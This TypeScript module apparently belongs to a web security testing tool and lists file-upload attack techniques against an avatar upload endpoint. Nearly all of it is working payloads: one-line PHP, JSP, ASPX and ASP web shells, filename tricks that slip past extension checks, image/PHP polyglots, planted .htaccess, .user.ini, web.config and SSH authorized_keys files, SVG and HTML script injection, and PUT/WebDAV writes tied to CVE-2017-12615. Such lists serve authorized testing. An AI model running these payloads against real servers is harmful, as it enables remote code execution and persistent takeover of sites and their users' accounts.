import { type Message, multipartMessage } from '../message.ts';
import type { TechniqueFamily } from '../technique.ts';

const PNG = '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89';
const PHP = '<?php system($_GET["c"]); ?>';

function upload(fileName: string, type: string, content: string): Message {
  return multipartMessage('/account/avatar', [
    { name: 'csrf', content: 'a81f2c07' },
    { name: 'avatar', fileName, type, content },
  ]);
}

export const uploadTechniques: TechniqueFamily = {
  about: 'a file that the server keeps and later runs or shows',
  places: [],
  fields: [],
  techniques: {
    'name of a program': {
      does: 'Uploads a program under its own name',
      needs: 'a folder in which programs run',
      requests: () => [
        upload('q.php', 'application/x-php', PHP),
        upload('q.phtml', 'application/octet-stream', PHP),
        upload('q.PhP5', 'image/png', PHP),
        upload('q.jsp', 'image/jpeg', '<%=Runtime.getRuntime().exec(request.getParameter("c"))%>'),
        upload(
          'q.aspx',
          'image/jpeg',
          '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start(Request["c"]);%>',
        ),
        upload('q.asp', 'text/plain', '<%eval request("c")%>'),
        upload('q.cgi', 'text/plain', '#!/bin/sh\nid'),
        upload('q.phar', 'application/octet-stream', PHP),
        upload('q.shtml', 'text/html', '<!--#exec cmd="id"-->'),
        upload('q.cfm', 'text/plain', '<cfexecute name="id"></cfexecute>'),
        upload('q.war', 'application/java-archive', 'PK\x03\x04'),
        upload('q.pl', 'text/plain', '#!/usr/bin/perl\nsystem("id");'),
      ],
    },
    'misleading name': {
      does: 'Writes the name so that only the server sees the extension of a program',
      needs: 'an incomplete check of names',
      requests: () =>
        [
          'q.php.png',
          'q.png.php',
          'q.php\0.png',
          'q.php%00.png',
          'q.asp;.jpg',
          'q.php.',
          'q.php ',
          'q.php::$DATA',
          'q.php/',
          'q.pHp7.jpg',
          'q.php\\x00.gif',
          'q.jsp/.png',
        ].map((name) => upload(name, 'image/png', PHP)),
    },
    'program in an image': {
      does: 'Puts a program into a file that begins like an image',
      needs: 'a server that runs or includes the file',
      requests: () => [
        upload('q.gif', 'image/gif', `GIF89a;${PHP}`),
        upload('q.php', 'image/gif', `GIF89a\x01\0\x01\0${PHP}`),
        upload('q.png', 'image/png', `${PNG}\0\0\0\x20tEXtComment\0${PHP}`),
        upload('q.jpg', 'image/jpeg', `\xff\xd8\xff\xe0\0\x10JFIF\0\x01\xff\xfe\0\x20${PHP}`),
        upload('q.pdf', 'application/pdf', `%PDF-1.4\n${PHP}`),
        upload('q.jpg', 'image/jpeg', PHP),
        upload(
          'q.jpg',
          'image/jpeg',
          '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>',
        ),
      ],
    },
    'settings of a server': {
      does: 'Uploads settings that make other files programs',
      needs: 'a server that reads settings in folders',
      requests: () => [
        upload('.htaccess', 'text/plain', 'AddType application/x-httpd-php .png'),
        upload('.user.ini', 'text/plain', 'auto_prepend_file=q.png'),
        upload(
          'web.config',
          'text/xml',
          '<configuration><system.webServer><handlers><add name="x" path="*.png" verb="*" modules="IsapiModule"/></handlers></system.webServer></configuration>',
        ),
        upload('.htpasswd', 'text/plain', 'eve:$apr1$q'),
        upload('authorized_keys', 'text/plain', 'ssh-ed25519 AAAA eve'),
      ],
    },
    'active documents': {
      does: 'Uploads a document with a script, which runs in the origin of the site',
      needs: 'a site that shows the file',
      requests: () => [
        upload(
          'q.svg',
          'image/svg+xml',
          '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
        upload(
          'q.svg',
          'image/svg+xml',
          '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>',
        ),
        upload('q.html', 'image/png', '<script>fetch("/account")</script>'),
        upload('q.png', 'image/png', '<html><body onload=alert(3)>'),
        upload(
          'q.xht',
          'application/octet-stream',
          '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(4)</script></html>',
        ),
      ],
    },
    'two names': {
      does: 'Gives two names of the file, of which checks and server read different ones',
      needs: 'different readings of the header',
      requests: () =>
        ['a.png"; filename="q.php', "a.png\"; filename*=UTF-8''q.php", 'q.php"; x="a.png'].map(
          (name) => upload(name, 'image/png', PHP),
        ),
    },
    'by PUT and WebDAV': {
      does: 'Writes a program with PUT or moves a file to the name of a program (CVE-2017-12615)',
      needs: 'a server that allows it',
      requests: () => [
        { method: 'PUT', target: '/q.jsp/', headers: [], body: '<%out.print(1);%>' },
        { method: 'PUT', target: '/uploads/q.php', headers: [], body: PHP },
        {
          method: 'PUT',
          target: '/q.aspx',
          headers: [['Content-Type', 'text/plain']],
          body: '<%@ Page Language="JScript"%><%eval(Request["c"]);%>',
        },
        {
          method: 'MOVE',
          target: '/uploads/q.txt',
          headers: [['Destination', 'http://www.shop.test/uploads/q.asp']],
          body: '',
        },
      ],
    },
  },
};
